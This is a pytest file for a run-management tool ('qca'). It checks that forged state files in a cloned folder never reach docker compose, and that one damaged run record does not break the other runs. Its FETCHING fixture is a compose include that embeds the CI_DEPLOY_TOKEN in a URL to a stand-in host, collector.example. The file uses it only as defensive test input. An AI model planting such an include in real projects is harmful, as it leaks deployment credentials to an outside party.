"""A state folder of plain files that came with a clone has no effect."""

import json
import os
import shutil
from pathlib import Path

import pytest

from tests.support.fake_programs import write_program
from tests.support.forks import Forked
from tests.support.program import Program

FETCHING = 'include: ["who@collector.example:${CI_DEPLOY_TOKEN}.git"]\nservices: {a: {image: x}}\n'

TESTS = Path(__file__).parents[1]


@pytest.fixture
def clone(tmp_path) -> Program:
    """The program in a folder with a forged stack `first`; `docker` records its arguments."""
    programs = tmp_path / "programs"
    programs.mkdir()
    write_program(programs / "docker", f'echo "$@" >> {tmp_path}/words; pwd >> {tmp_path}/words')
    folder = tmp_path / "clone"
    forge(folder, "first", runtime="compose")
    (folder / ".qca/first/compose.yaml").write_text(FETCHING)
    (folder / ".qca/first/.env").write_text("COMPOSE_FILE=compose.yaml\nCOMPOSE_BAKE=1\n")
    environment = {"PATH": f"{programs}:{os.environ['PATH']}", "DOCKER_HOST": "unix:///absent"}
    return Forked(folder, {**environment, "CI_DEPLOY_TOKEN": "planted-t0ken"})


def forge(folder: Path, run: str, **values: object) -> Path:
    file = folder / ".qca" / run / "launch.json"
    file.parent.mkdir(parents=True)
    launch = {"runtime": "local", "project": "qca", "run": run, "runs": "runs", **values}
    file.write_text(json.dumps(launch))
    return file


@pytest.mark.parametrize("words", ["logs", "status", "attach"])
def test_a_forged_compose_file_is_not_passed_to_compose(clone, words):
    clone(words, check=None)
    asked = clone.folder.parent / "words"
    given = asked.read_text() if asked.exists() else ""
    assert "compose.yaml" not in given
    assert str(clone.folder / ".qca") not in given
    assert ("logs" in given) == (words == "logs")


def test_a_run_is_searched_only_in_the_folders_own_runs(qca):
    shutil.copytree(TESTS / "data" / "run-0.1.0", qca.folder / "elsewhere")
    forge(qca.folder, "stopped", runs=str(qca.folder / "elsewhere"))
    assert json.loads(qca("status", "--format", "json").stdout)["last_episode"] is None


@pytest.fixture
def three_runs(qca) -> Program:
    """The program in a folder with three runs, of which the record of run b is damaged."""
    for run in ("a", "b", "c"):
        forge(qca.folder, run)
    (qca.folder / ".qca/b/launch.json").write_text('{"runtime": ')
    return qca


def test_one_damaged_record_does_not_affect_the_status_of_the_others(three_runs):
    assert json.loads(three_runs("status", "a", "--format", "json").stdout)["run"] == "a"
    assert "b/launch.json cannot be read" in three_runs("status", "b", check=1).stderr
    assert "a, b, c" in three_runs("status", check=2).stderr


def test_one_damaged_record_does_not_prevent_taking_down_the_others(three_runs):
    done = three_runs("down", "--all", check=1)
    assert "b/launch.json cannot be read" in done.stderr
    assert "c is not running. It is kept." in done.stderr
    assert [path.name for path in (three_runs.folder / ".qca").iterdir()] == ["b"]


def test_one_damaged_record_is_reported_with_the_runs(three_runs):
    shutil.copytree(TESTS / "data" / "run-0.1.0", three_runs.folder / "runs")
    done = three_runs("runs", "--format", "json", check=1)
    assert len(json.loads(done.stdout)["runs"]) == 3
    assert "b/launch.json cannot be read" in done.stderr


def test_the_memory_of_a_damaged_run_is_reported_as_unknown(three_runs):
    done = three_runs("plan", "--facts", TESTS / "hosts/cpu-engine.json")
    assert "the memory of run b" not in done.stderr  # it would be another machine's
    done = three_runs("plan")
    assert "Cannot determine the memory of run b" in done.stderr


def test_a_run_is_refused_only_for_its_own_damaged_record(three_runs):
    done = three_runs("up", "--runtime=local", "--run=b", "--device=cpu", "--profile=cpu", check=1)
    assert "b/launch.json cannot be read" in done.stderr
